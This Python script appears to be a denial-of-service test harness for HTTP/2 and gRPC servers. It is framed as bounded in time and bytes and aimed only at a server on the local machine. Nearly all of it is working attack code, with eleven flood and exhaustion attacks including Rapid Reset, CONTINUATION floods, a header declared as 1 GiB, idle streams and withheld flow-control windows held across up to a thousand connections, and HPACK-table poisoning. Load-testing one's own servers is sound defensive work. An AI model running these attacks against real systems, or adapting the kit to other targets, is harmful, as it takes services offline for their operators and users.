"""Attacks on an HTTP/2 server, each bounded in time and bytes: for servers of
one's own on this machine alone.

http2_attacks.py PORT NAME SECONDS [AUTHORITY.pem]

Goes on from new connections as old ones are closed. Prints one line of JSON:
the connections made, those that the server ended, the bytes and frames sent.
"""

import json
import socket
import ssl
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS = 0, 1, 2, 3, 4
PING, WINDOW_UPDATE, CONTINUATION = 6, 8, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4
MAX_FRAME = 16384
# An address of its own, as an attacker has: limits are kept by address.
ATTACKER = "127.0.0.2"


def frame(kind, flags=0, stream=0, payload=b""):
    return (struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) +
            struct.pack(">I", stream) + payload)


def integer(value, prefix_bits=7):
    """HPACK's."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([value])
    encoded, value = [limit], value - limit
    while value > 127:
        encoded.append(value & 127 | 128)
        value >>= 7
    return bytes(encoded + [value])


def varint(value):
    """Protobuf's."""
    encoded = []
    while value > 127:
        encoded.append(value & 127 | 128)
        value >>= 7
    return bytes(encoded + [value])


def literal(name, value):
    return b"\0" + integer(len(name)) + name + integer(len(value)) + value


def call_headers(*more):
    fields = [(b":method", b"POST"), (b":scheme", b"https"),
              (b":path", b"/peregrine.v1.TranslationService/Translate"),
              (b":authority", b"localhost"), (b"te", b"trailers"),
              (b"content-type", b"application/grpc"), *more]
    return b"".join(literal(*field) for field in fields)


class Connection:
    def __init__(self, attack, settings=b""):
        self._attack = attack
        plain = socket.create_connection(
            ("127.0.0.1", attack.port), timeout=5,
            source_address=(ATTACKER, 0))
        if attack.context is None:
            self._socket = plain
        else:
            self._socket = attack.context.wrap_socket(
                plain, server_hostname="localhost")
        self._socket.settimeout(2)
        self._received = b""
        self._window = 65535  # of the connection, for what is sent
        attack.connections += 1
        self.send(PREFACE + frame(SETTINGS, 0, 0, settings))

    def send(self, data):
        self._socket.sendall(data)
        self._attack.bytes += len(data)

    def send_within_window(self, stream, message):
        """A whole message, as soon as the server lets it in."""
        while self._window < len(message):
            self._received += self._socket.recv(65536) or self._closed()
            self._read_windows()
        self._window -= len(message)
        parts = [message[i:i + MAX_FRAME]
                 for i in range(0, len(message), MAX_FRAME)]
        for part in parts[:-1]:
            self.send(frame(DATA, 0, stream, part))
        self.send(frame(DATA, END_STREAM, stream, parts[-1]))

    def _read_windows(self):
        while len(self._received) >= 9:
            length = int.from_bytes(self._received[:3], "big")
            if len(self._received) < 9 + length:
                return
            kind, stream = self._received[3], self._received[5:9]
            payload = self._received[9:9 + length]
            self._received = self._received[9 + length:]
            if kind == WINDOW_UPDATE and not any(stream):
                self._window += int.from_bytes(payload, "big")

    @staticmethod
    def _closed():
        raise ConnectionError("closed")

    def acknowledge_settings(self):
        self.send(frame(SETTINGS, ACK))

    def close(self):
        self._socket.close()


class Attack:
    def __init__(self, port, seconds, authority):
        self.port = port
        self.end = time.monotonic() + seconds
        self.context = None
        if authority:
            self.context = ssl.create_default_context(cafile=authority)
            self.context.set_alpn_protocols(["h2"])
        self.connections = self.ended = self.refused = 0
        self.bytes = self.frames = 0

    def goes_on(self):
        return time.monotonic() < self.end

    def run(self, once):
        while self.goes_on():
            try:
                connection = Connection(self)
            except OSError:
                self.refused += 1
                time.sleep(0.01)
                continue
            try:
                once(connection)
            except OSError:
                self.ended += 1
            finally:
                connection.close()

    def unacknowledged_settings(self, connection):
        """Limits that the server has announced hold once acknowledged."""
        fields = [(b"k%d" % i, b"v" * 20) for i in range(4000)]
        block = call_headers(*fields)
        parts = [block[i:i + MAX_FRAME]
                 for i in range(0, len(block), MAX_FRAME)]
        stream = 1
        while self.goes_on():
            connection.send(
                frame(HEADERS, END_STREAM, stream, parts[0]) +
                b"".join(frame(CONTINUATION, 0, stream, part)
                         for part in parts[1:-1]) +
                frame(CONTINUATION, END_HEADERS, stream, parts[-1]))
            stream += 2
            self.frames += len(parts)

    def huge_header(self, connection):
        """One header that is said to have 1 GiB."""
        connection.send(frame(HEADERS, 0, 1, call_headers() + b"\0" +
                              integer(5) + b"x-big" + integer(1 << 30)))
        while self.goes_on():
            connection.send(frame(CONTINUATION, 0, 1, b"a" * MAX_FRAME))
            self.frames += 1

    def endless_block(self, connection):
        """Small headers without end, none of them the last."""
        connection.send(frame(HEADERS, 0, 1, call_headers()))
        block = b"".join(literal(b"k%d" % i, b"v") for i in range(1000))
        while self.goes_on():
            connection.send(frame(CONTINUATION, 0, 1, block))
            self.frames += 1

    def rapid_reset(self, connection):
        """Calls that are taken back at once."""
        connection.acknowledge_settings()
        block = call_headers()
        stream = 1
        while self.goes_on():
            batch = []
            for _ in range(100):
                batch.append(frame(HEADERS, END_HEADERS, stream, block))
                batch.append(frame(RST_STREAM, 0, stream,
                                   struct.pack(">I", 8)))
                stream += 2
            connection.send(b"".join(batch))
            self.frames += 200

    def rapid_reset_with_data(self, connection):
        connection.acknowledge_settings()
        block = call_headers()
        stream = 1
        while self.goes_on():
            connection.send(
                frame(HEADERS, END_HEADERS, stream, block) +
                frame(DATA, 0, stream, b"\0\0\1\0\0" + b"a" * 1000) +
                frame(RST_STREAM, 0, stream, struct.pack(">I", 8)))
            stream += 2
            self.frames += 3

    def idle_streams(self, connection):
        """100 calls that say nothing, on each of 1000 connections at most."""
        held = [connection]
        try:
            while self.goes_on():
                held[-1].acknowledge_settings()
                held[-1].send(b"".join(
                    frame(HEADERS, END_HEADERS, 2 * i + 1, call_headers())
                    for i in range(100)))
                self.frames += 100
                if len(held) == 1000:
                    time.sleep(0.1)
                else:
                    held.append(Connection(self))
        finally:
            for one in held[1:]:
                one.close()

    def empty_frames(self, connection):
        """DATA without data."""
        connection.acknowledge_settings()
        connection.send(frame(HEADERS, END_HEADERS, 1, call_headers()))
        while self.goes_on():
            connection.send(frame(DATA, 0, 1) * 500)
            self.frames += 500

    def control_frames(self, connection):
        """Pings and settings, whose answers nobody reads."""
        connection.acknowledge_settings()
        while self.goes_on():
            connection.send((frame(PING, 0, 0, b"12345678") +
                             frame(SETTINGS)) * 250)
            self.frames += 500

    def malformed_binary(self, connection):
        """Headers named -bin that are not base64, into the compression table."""
        connection.acknowledge_settings()
        block = call_headers() + b"\x40" + literal(b"x-bin", b"!!!")[1:]
        message = b"\0\0\0\0\0"
        stream = 1
        while self.goes_on():
            connection.send(frame(HEADERS, END_HEADERS, stream, block) +
                            frame(DATA, END_STREAM, stream, message))
            stream += 2
            self.frames += 2
            time.sleep(0.005)

    def closed_window(self, connection):
        """Questions whose answers are never let in."""
        connection.send(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0)))
        connection.acknowledge_settings()
        text = b"The house is small."
        message = b"\x12" + bytes([len(text) + 2]) + b"\x0a" + bytes(
            [len(text)]) + text
        for i in range(100):
            connection.send(
                frame(HEADERS, END_HEADERS, 2 * i + 1, call_headers()) +
                frame(DATA, END_STREAM, 2 * i + 1,
                      struct.pack(">BI", 0, len(message)) + message))
            self.frames += 2
        while self.goes_on():
            time.sleep(0.1)
            connection.send(frame(WINDOW_UPDATE, 0, 0,
                                  struct.pack(">I", 1)))


    def unread_answers(self, connection):
        """Long answers that are never let in: white space is its own
        translation. On ever more connections."""
        text = b" " * 60000
        text = b"\x0a" + varint(len(text)) + text
        message = b"\x12" + varint(len(text)) + text
        held = [connection]
        try:
            while self.goes_on():
                # No window for answers.
                held[-1].send(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0)))
                held[-1].acknowledge_settings()
                for i in range(100):
                    held[-1].send(frame(HEADERS, END_HEADERS, 2 * i + 1,
                                        call_headers()))
                    held[-1].send_within_window(
                        2 * i + 1, struct.pack(">BI", 0, len(message)) +
                        message)
                    self.frames += 5
                held.append(Connection(self))
        finally:
            for one in held[1:]:
                one.close()


NAMES = ("unacknowledged_settings", "huge_header", "endless_block",
         "rapid_reset", "rapid_reset_with_data", "idle_streams",
         "empty_frames", "control_frames", "malformed_binary",
         "closed_window", "unread_answers")


def main():
    port, name, seconds = int(sys.argv[1]), sys.argv[2], float(sys.argv[3])
    attack = Attack(port, seconds, sys.argv[4] if len(sys.argv) > 4 else None)
    attack.run(getattr(attack, name))
    print(json.dumps({key: getattr(attack, key) for key in
                      ("connections", "ended", "refused", "bytes", "frames")}))


if __name__ == "__main__":
    main()
